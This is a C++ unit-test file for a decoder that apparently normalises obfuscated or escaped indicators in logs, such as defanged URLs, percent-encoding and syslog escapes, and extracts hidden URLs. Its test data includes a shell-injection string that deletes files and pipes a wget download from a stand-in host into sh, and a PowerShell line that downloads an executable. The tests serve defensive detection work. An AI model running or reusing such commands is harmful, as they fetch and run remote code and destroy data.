// SPDX-License-Identifier: Apache-2.0
#include "observable/unescape.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <random>

namespace backtrail::observable {
namespace {

std::string decoded(std::string_view text) {
  Unescaped out;
  out.read(text);
  return std::string(out.text());
}

bool asks(const std::string& text) {
  std::string low = lower(text);
  low.append(kMaskPadding, '\0');
  std::vector<ByteMasks> masks;
  classify(std::string_view(low.data(), text.size()), masks);
  return is_escaped(text, masks);
}

TEST(Unescaped, DecodesWhatStandsForSomethingElse) {
  EXPECT_EQ(decoded("/r?u=http%3A%2f%2Fevil%2Eexample%2Fa"), "/r?u=http://evil.example/a");
  EXPECT_EQ(decoded("hxxp[:]//evil[.]example, evil(.)example, evil{.}example, bob[@]evil.example"),
            "hxxp://evil.example, evil.example, evil.example, bob@evil.example");
  EXPECT_EQ(decoded("evil\u3002example \uff0e \uff61"), "evil.example . .");
}

TEST(Unescaped, DecodesWhatLoggersWrite) {
  EXPECT_EQ(decoded(R"(1#011Security#012e40.example#0331)"), "1\tSecurity\ne40.example\0331");
  EXPECT_EQ(decoded(R"(sum of file\nc157\nfrom\tevil.example\r)"), "sum of file\nc157\nfrom\tevil.example\r");
  EXPECT_EQ(decoded(R"({"from":"\u003cq@d4.example\u003e","a":"\u00e4"})"),
            "{\"from\":\"<q@d4.example>\",\"a\":\"\u00e4\"}");
  EXPECT_EQ(decoded(R"(iwr \"http://e4.example/x\" -OutFile \"drop4.exe\")"),
            R"(iwr "http://e4.example/x" -OutFile "drop4.exe")");
  EXPECT_EQ(decoded(R"(/?q=\x22n1.example\x22&h=\x22x)"), "/?q=\"n1.example\"&h=\"x");
  EXPECT_EQ(decoded(R"(\\\"a.example\\\" x\\nb)"), "\"a.example\" x\nb");
  EXPECT_EQ(decoded("href=&quot;http://a.example/&quot; &lt;b&#62;&#x3c;&amp;"), "href=\"http://a.example/\" <b><&");
  EXPECT_EQ(decoded("\x1b[1;31mevil.example\x1b[0m ^[[1mx \\033[0m"), "\"evil.example\" \"x \x1b[0m");
  EXPECT_EQ(decoded("(3)www(4)evil(7)example(0)"), ".www.evil.example(0)");
  EXPECT_EQ(decoded("\uff08evil\uff1acjk.dll\u3011\u2502x"), "(evil:cjk.dll\"\"x");
  EXPECT_EQ(decoded("\u8fde\u63a5\u5230evil.example\u5931\u8d25"), "\u8fde\u63a5\"evil.example\"\u8d25");
  EXPECT_EQ(decoded("C:\\e40\\x.exe\\n at java"), "C:\\e40\\x.exe\n at java");
  EXPECT_EQ(decoded(R"([\'a.example\', \'b\'])"), "['a.example', 'b']");
}

TEST(Unescaped, DecodesControlsAndUtf8WrittenByTheByte) {
  EXPECT_EQ(decoded("x=%0d%0aevil.example%09%00y%u0022"), std::string("x=\r\nevil.example\t\0y\"", 20));
  EXPECT_EQ(decoded("%E2%80%9Cevil.example%e2%80%9d%C3%A9"), "\u201cevil.example\u201d\u00e9");
  EXPECT_EQ(decoded("%93evil.example%94 %E2%80 %ed%a0%80"), "\"evil.example\" \"\" \"\"\"");  // no UTF-8
  EXPECT_EQ(decoded(R"(\xe2\x80\x9cevil\342\200\235 x\\xe2\\x80\\x9c)"), "\u201cevil\u201d x\u201c");
  EXPECT_EQ(decoded(R"(\ud83d\ude00a &#128512;b)"), "\"\"a \U0001f600b");
}

TEST(Unescaped, DecodesBlanksOfAQueryBehindMarksOfAShell) {
  EXPECT_EQ(decoded("/shell?cd+/tmp;rm+-rf+*;wget+http://a.example/m|sh>x+<y+\"z+"),
            "/shell?cd /tmp;rm -rf *;wget http://a.example/m|sh>x <y \"z ");
  EXPECT_EQ(decoded("/a?b c+d"), "/a?b c+d");
  const std::string far(200, 'x');
  EXPECT_EQ(decoded("?" + far + "+" + far + "+y"), "?" + far + " " + far + " y");
  EXPECT_EQ(decoded("?" + far + far + "+y"), "?" + far + far + "+y");
}

TEST(Unescaped, DecodesArrowsCommentsAndRunsOfDots) {
  EXPECT_EQ(decoded("a.exe->b.exe-->c<!--d.exe-->e<-f a-b <x> -"), "a.exe\"b.exe\"c\"d.exe\"e\"f a-b <x> -");
  EXPECT_EQ(decoded("2001:db8::1...2001:db8::9 GET..x"), "2001:db8::1\"2001:db8::9 GET\"x");
  for (const std::string_view text : {"../a/../b", R"(..\a\..\b)", "wait... (x..)", "..", "/..x"})
    EXPECT_EQ(decoded(text), text);
}

TEST(Unescaped, TakesForABreakWhatIsNoLetterOfAnyWriting) {
  for (const std::string_view mark :
       {"\U0001f600", "\ufffd", "\u2713", "\u2588", "\u20ac", "\u00b0", "\ue0b0", "\u2460", "\u0085"})
    EXPECT_EQ(decoded(std::string(mark) + "evil.example"), "\"evil.example") << mark;
  EXPECT_EQ(decoded("\u26a0\ufe0fx"), "\"\"x");  // a sign, and how it shall look
  for (const std::string_view letter : {"\u00e9", "\u0434", "e\u0301", "\u05d0", "\u0967", "\U0001d400"})
    EXPECT_EQ(decoded(std::string(letter) + "x \u2713"), std::string(letter) + "x \"") << letter;
  EXPECT_EQ(decoded("\x93x\x94 \xc3 \xed\xa0\x80 \xf5\x80\x80\x80"),
            "\"x\" \" \" \"");  // Windows' code pages
  EXPECT_EQ(decoded(std::string(1U << 20, '\xe4') + "x"), "\"x");
}

TEST(Unescaped, LeavesWindowsPathsAlone) {
  for (const std::string_view text :
       {R"(C:\Windows\System32\ntdll.dll)", R"(C:\Program Files\new\x64\u0041.exe)", R"(\\nas\reports\x.exe)",
        R"(\SystemRoot\system32\ntdll.dll)", R"(%TEMP%\new\t.exe)", R"(HKLM\Software\nt\run)", R"(..\a\new.exe)",
        R"("C:\dir\" -x)", R"(cd "D:\new folder\")", R"(\REGISTRY\MACHINE\nt)"})
    EXPECT_EQ(decoded(text), text);
}

TEST(Unescaped, LeavesTheRest) {
  for (const std::string_view text : {"100% of 5%zz and %2", "%u12 %U0041", "a[.b] [. ] (.}", "\u00e9t\u00e9", "%%1833",
                                      "%25", "#12 #0 #040", "&quo; &#; &#xd800; &#1234567;", "(3)ab(0) (x86) (0)",
                                      "\x1b[ ^[[1x", "\u65e5\u672c.\u8a9e", "\\u00 \\xf \\a \\199", "<x> - -"}) {
    const std::string expected = text == "%25" ? "%" : std::string(text);  // decoded once
    EXPECT_EQ(decoded(text), expected);
  }
  EXPECT_EQ(decoded("%252e"), "%2e");
}

TEST(Unescaped, ABlockAsksExactlyWhereSomethingIsDecoded) {
  std::mt19937 random(5);
  const std::vector<std::string> pieces{"a",        "%",     "2",     "e",        "%2e",
                                        "[",        ".",     "]",     "(",        ")",
                                        "{",        "}",     ":",     "@",        "[.]",
                                        "(.)",      " ",     "\xe3",  "\x80\x82", "\u3002",
                                        "\uff0e",   "%3A",   "%zz",   "[@]",      std::string(61, 'x'),
                                        ":\\/\\/",  "\\/",   "\\",    "\\n",      "n",
                                        "u003c",    "x22",   "\"",    "#0",       "11",
                                        "&quot;",   "&#",    "60;",   "(4)",      "evil",
                                        "(1)",      "\x1b[", "^[[",   "1m",       "\u4e2d",
                                        "\u2502",   "\\\\",  "t",     "C:\\",     ".exe",
                                        "0",        "\\'",   "?",     "+",        "-",
                                        ">",        "<!--",  "..",    "\xc3\xa9", "\xf0\x9f",
                                        "\x98\x80", "%E2",   "%80",   "%9C",      "%u",
                                        "\\xe2",    "\\x80", "\\x9c", "\\342"};
  std::size_t asked = 0;
  for (int round = 0; round < 20'000; ++round) {
    std::string text;
    for (std::size_t left = random() % 12; left > 0; --left) text += pieces[random() % pieces.size()];
    EXPECT_EQ(asks(text), decoded(text) != text) << text;
    asked += asks(text) ? 1U : 0U;
  }
  EXPECT_GT(asked, 5'000U);
}

TEST(Unescaped, GivesOfUrlsThoseThatWereHidden) {
  Unescaped out;
  out.read("GET http://open.example/r?u=http%3A%2F%2Fevil.example%2Fa HTTP/1.1");
  std::vector<std::string> urls;
  out.each_hidden_url(
      [&](std::size_t begin, std::size_t end) { urls.emplace_back(out.text().substr(begin, end - begin)); });
  EXPECT_EQ(urls, std::vector<std::string>{"http://evil.example/a"});
}

}  // namespace
}  // namespace backtrail::observable
